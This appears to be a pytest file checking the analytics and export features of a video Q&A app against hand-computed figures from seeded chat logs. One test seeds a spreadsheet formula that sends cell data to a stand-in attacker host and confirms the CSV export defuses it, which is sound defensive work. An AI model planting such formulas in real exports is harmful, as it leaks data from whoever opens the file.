"""Every analytics figure against values worked out by hand from seeded chat logs."""

from __future__ import annotations

import io
import json
from datetime import date, datetime, timedelta, timezone

import pandas as pd
import pytest

from core import analytics
from core.analytics import Filters, Scope
from core.errors import AskVideoError
from db.models import ChatLog, Video, VideoGroup
from tests.factories import chat_log, home, make_account

DAY1 = datetime(2026, 11, 1, 10, 0, tzinfo=timezone.utc)
DAY2 = datetime(2026, 11, 2, 15, 0, tzinfo=timezone.utc)


def cite(video: Video, start: float = 0.0) -> dict:
    return {"n": 1, "video_id": video.id, "title": video.title, "start": start, "end": start + 10, "score": 0.5}


@pytest.fixture
def seeded(session):
    """Alice: two groups, six exchanges over two days, four videos. Bob: two exchanges of his own."""
    alice, bob = make_account(session, "alice"), make_account(session, "bob")
    alpha = Video(user_id=alice.id, workspace_id=home(session, alice.id), title="Alpha", status="completed", duration_s=1800,
                  transcript_source="captions", processing_started_at=DAY1,
                  processing_finished_at=DAY1 + timedelta(seconds=30), uploaded_at=DAY1)
    beta = Video(user_id=alice.id, workspace_id=home(session, alice.id), title="Beta", status="completed", duration_s=5400,
                 transcript_source="local_whisper", processing_started_at=DAY1,
                 processing_finished_at=DAY1 + timedelta(seconds=1800), uploaded_at=DAY1)
    broken = Video(user_id=alice.id, workspace_id=home(session, alice.id), title="Broken", status="error", error_message="x", uploaded_at=DAY2)
    waiting = Video(user_id=alice.id, workspace_id=home(session, alice.id), title="Waiting", status="pending", uploaded_at=DAY2)
    bobs = Video(user_id=bob.id, workspace_id=home(session, bob.id), title="Bob's", status="completed", duration_s=36000, uploaded_at=DAY1)
    session.add_all([alpha, beta, broken, waiting, bobs])
    session.flush()
    g1 = VideoGroup(user_id=alice.id, workspace_id=home(session, alice.id), name="Sales")
    g2 = VideoGroup(user_id=alice.id, workspace_id=home(session, alice.id), name="Support")
    gb = VideoGroup(user_id=bob.id, workspace_id=home(session, bob.id), name="Bob group")
    session.add_all([g1, g2, gb])
    session.flush()

    def log(user, group, question, feedback, shared, when, sources):
        session.add(chat_log(user_id=user.id, group_id=group.id, question=question, answer=f"answer to {question}",
                            mode="llm", feedback=feedback, is_shared_origin=shared, created_at=when,
                            related_videos=sources))

    log(alice, g1, "What is the price?", "good", False, DAY1, [cite(alpha), cite(beta, 60)])
    log(alice, g1, "what is the PRICE", "bad", True, DAY1, [cite(alpha)])
    log(alice, g1, "Who is the CEO?", None, False, DAY1, [])
    log(alice, g1, "Refund policy?", "good", True, DAY2, [cite(beta)])
    log(alice, g2, "How do I reset?", "bad", False, DAY2, [cite(beta), cite(alpha, 30)])
    log(alice, g2, "What is the price?", None, False, DAY2, [cite(alpha)])
    log(bob, gb, "Bob's secret question", "bad", False, DAY1, [cite(bobs)])
    log(bob, gb, "What is the price?", "good", False, DAY2, [cite(bobs)])
    session.flush()
    return session, alice, bob, g1, g2, alpha, beta


def test_headline_figures(seeded):
    session, alice, *_ = seeded
    h = analytics.headline(session, Scope(alice.id), Filters())
    assert (h.questions, h.rated, h.good, h.bad, h.no_sources) == (6, 4, 2, 2, 1)
    assert h.rated_share == pytest.approx(4 / 6) and h.good_rate == 0.5 and h.bad_rate == 0.5
    assert (h.videos_ingested, h.hours_of_video, h.videos_in_error) == (2, 2.0, 1)


def test_filters_narrow_every_figure(seeded):
    session, alice, bob, g1, g2, *_ = seeded
    scope = Scope(alice.id)
    assert analytics.headline(session, scope, Filters(group_id=g2.id)).questions == 2
    assert analytics.headline(session, scope, Filters(origin="shared")).questions == 2
    assert analytics.headline(session, scope, Filters(origin="owner")).questions == 4
    assert analytics.headline(session, scope, Filters(feedback="none")).questions == 2
    day2 = analytics.headline(session, scope, Filters(start=date(2026, 11, 2), end=date(2026, 11, 2)))
    assert (day2.questions, day2.good, day2.bad, day2.videos_ingested, day2.videos_in_error) == (3, 1, 1, 0, 1)
    assert analytics.headline(session, scope, Filters(end=date(2026, 10, 31))).questions == 0


def test_questions_per_day_stacked_by_feedback(seeded):
    session, alice, *_ = seeded
    frame = analytics.questions_per_day(session, Scope(alice.id), Filters())
    got = {(str(r.day), r.feedback): r.questions for r in frame.itertuples()}
    assert got == {("2026-11-01", "good"): 1, ("2026-11-01", "bad"): 1, ("2026-11-01", "none"): 1,
                   ("2026-11-02", "good"): 1, ("2026-11-02", "bad"): 1, ("2026-11-02", "none"): 1}


def test_good_rate_per_group(seeded):
    session, alice, bob, g1, g2, *_ = seeded
    frame = analytics.good_rate_per_group(session, Scope(alice.id), Filters()).set_index("group")
    assert frame.loc["Sales", ["questions", "good", "bad", "good_rate"]].tolist() == [4, 2, 1, pytest.approx(2 / 3, abs=1e-3)]
    assert frame.loc["Support", ["questions", "good", "bad", "good_rate"]].tolist() == [2, 0, 1, 0.0]


def test_most_cited_videos_and_those_cited_in_bad_answers(seeded):
    session, alice, *_ , alpha, beta = seeded
    cited = analytics.most_cited_videos(session, Scope(alice.id), Filters())
    assert cited[["title", "citations", "in_bad_answers"]].values.tolist() == [["Alpha", 4, 2], ["Beta", 3, 1]]
    bad = analytics.most_cited_in_bad(session, Scope(alice.id), Filters())
    assert bad[["title", "bad_citations"]].values.tolist() == [["Alpha", 2], ["Beta", 1]]


def test_ingestion_status_and_processing_speed(seeded):
    session, alice, *_ = seeded
    status = analytics.ingestion_status(session, Scope(alice.id), Filters())
    assert dict(status.values.tolist()) == {"Ready": 2, "Error": 1, "Waiting": 1}  # as the Library says it
    speed = analytics.processing_speed(session, Scope(alice.id), Filters()).set_index("transcript_source")
    assert speed.loc["Captions file", "minutes_per_video_hour"] == 1.0  # 30 s for half an hour
    assert speed.loc["Speech-to-text (local)", "minutes_per_video_hour"] == 20.0  # 1800 s for 1.5 hours
    assert speed.loc["Speech-to-text (local)", "median_s"] == 1800.0


def test_a_short_clip_does_not_make_an_absurd_rate(seeded):
    """A nine-second clip processed in 11.5 s made '4,616 s per video hour': the rate is only for
    videos of a minute or more; the clip shows in the median time per video."""
    session, alice, *_ = seeded
    session.add(Video(user_id=alice.id, workspace_id=home(session, alice.id), title="Clip", status="completed", duration_s=9, transcript_source="openai_whisper",
                      processing_started_at=DAY1, processing_finished_at=DAY1 + timedelta(seconds=11.5),
                      uploaded_at=DAY1))
    session.flush()
    speed = analytics.processing_speed(session, Scope(alice.id), Filters()).set_index("transcript_source")
    clip = speed.loc["Speech-to-text (OpenAI)"]
    assert clip["median_s"] == 11.5 and pd.isna(clip["minutes_per_video_hour"])


def test_review_queue_lists_bad_then_unrated_newest_first(seeded):
    session, alice, *_ = seeded
    page = analytics.answers_table(session, Scope(alice.id), Filters(), per_page=4)
    assert page.total == 6 and page.pages == 2
    assert page.rows["question"].tolist() == ["How do I reset?", "what is the PRICE", "What is the price?",
                                              "Who is the CEO?"]
    assert page.rows["origin"].tolist()[1] == "shared link"
    assert page.rows["cited"].tolist()[0] == "Beta @ 00:00–00:10; Alpha @ 00:30–00:40"
    second = analytics.answers_table(session, Scope(alice.id), Filters(), page=2, per_page=4)
    assert second.rows["feedback"].tolist() == ["good", "good"]


def test_frequent_questions_are_normalised(seeded):
    session, alice, *_ = seeded
    frame = analytics.frequent_questions(session, Scope(alice.id), Filters())
    top = frame.iloc[0]
    assert (top.question, top.asked, top.good, top.bad) == ("what is the price", 3, 1, 1)


def test_csv_export_round_trips_with_feedback_and_sources(seeded):
    session, alice, *_ = seeded
    data = analytics.export_csv(session, Scope(alice.id), Filters())
    frame = pd.read_csv(io.BytesIO(data), keep_default_na=False)
    assert len(frame) == 6 and set(frame["feedback"]) == {"good", "bad", "none"}
    assert "Bob" not in data.decode()
    first = frame.iloc[0]
    assert first["question"] == "What is the price?" and '"title": "Alpha"' in first["sources"]
    assert set(frame["closest"]) == {"[]"}  # only a refusal offers closest moments
    parquet = pd.read_parquet(io.BytesIO(analytics.export_parquet(session, Scope(alice.id), Filters())))
    assert parquet["question"].tolist() == frame["question"].tolist()


def test_the_export_keeps_a_refusals_closest_moments_apart_from_its_sources(seeded):
    session, alice, _, g1, *_ = seeded
    offered = {"n": 1, "video_id": 1, "title": "Alpha", "start": 12.0, "end": 20.0, "snippet": "Prices rise in May."}
    session.add(chat_log(user_id=alice.id, group_id=g1.id, question="Who painted the ceiling?",
                         answer="I could not find anything about that.", mode="nothing", created_at=DAY2,
                         related_videos=[], closest_moments=[offered]))
    session.flush()
    frame = pd.read_csv(io.BytesIO(analytics.export_csv(session, Scope(alice.id), Filters())), keep_default_na=False)
    row = frame[frame["question"] == "Who painted the ceiling?"].iloc[0]
    assert row["sources"] == "[]" and json.loads(row["closest"])[0]["snippet"] == "Prices rise in May."


def test_a_visitors_formula_opens_as_text_in_a_spreadsheet(seeded):
    """Share-link visitors type anything; the owner opens the export in Excel."""
    session, alice, _, g1, *_ = seeded
    formula = '=HYPERLINK("https://evil.example/?"&B2,"Click")'
    session.add(chat_log(user_id=alice.id, group_id=g1.id, question=formula, answer="-1 is not an answer",
                        mode="llm", is_shared_origin=True, created_at=DAY2, related_videos=[]))
    session.flush()
    frame = pd.read_csv(io.BytesIO(analytics.export_csv(session, Scope(alice.id), Filters())), keep_default_na=False)
    row = frame[frame["question"].str.contains("HYPERLINK")].iloc[0]
    assert row["question"] == "'" + formula and row["answer"] == "'-1 is not an answer"
    assert "What is the price?" in frame["question"].tolist()  # ordinary text is unchanged


def test_a_normal_user_never_sees_another_users_logs(seeded):
    session, alice, bob, *_ = seeded
    scope = Scope(alice.id)
    everything = [
        analytics.answers_table(session, scope, Filters(), per_page=100).rows.to_csv(),
        analytics.frequent_questions(session, scope, Filters()).to_csv(),
        analytics.most_cited_videos(session, scope, Filters()).to_csv(),
        analytics.export_csv(session, scope, Filters()).decode(),
    ]
    assert not any("Bob" in text for text in everything)
    bob_log = session.query(ChatLog).filter_by(user_id=bob.id).first()
    assert analytics.exchange(session, scope, bob_log.id) is None
    assert [name for _, name in analytics.group_options(session, scope)] == ["Sales", "Support"]


def test_staff_can_switch_to_all_users_and_others_cannot(seeded):
    session, alice, bob, *_ = seeded  # alice signed up first, so she is staff
    everyone = analytics.scope_for(session, alice.id, all_users=True)
    assert analytics.headline(session, everyone, Filters()).questions == 8
    with pytest.raises(AskVideoError, match="Only staff"):
        analytics.scope_for(session, bob.id, all_users=True)
